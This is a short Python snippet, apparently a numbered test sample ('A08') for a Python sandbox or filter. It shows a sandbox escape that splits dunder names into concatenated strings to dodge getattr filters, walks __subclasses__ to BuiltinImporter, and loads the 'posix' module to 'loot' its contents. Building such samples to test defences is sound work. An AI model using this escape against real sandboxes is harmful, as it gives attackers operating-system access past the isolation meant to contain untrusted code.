# A08: getattr with computed names -> __subclasses__ -> load_module('posix').
def handle(request):
    ga = getattr  # GATE
    base = ga(ga((), '__cla' + 'ss__'), '__ba' + 'se__')
    out = []
    for c in ga(base, '__sub' + 'classes__')():
        if ga(c, '__na' + 'me__') == 'BuiltinImporter':
            posix = ga(c, 'load_module')('posix')
            out.append('got posix')
            return loot(ga(posix, '__di' + 'ct__'), out)
    return out
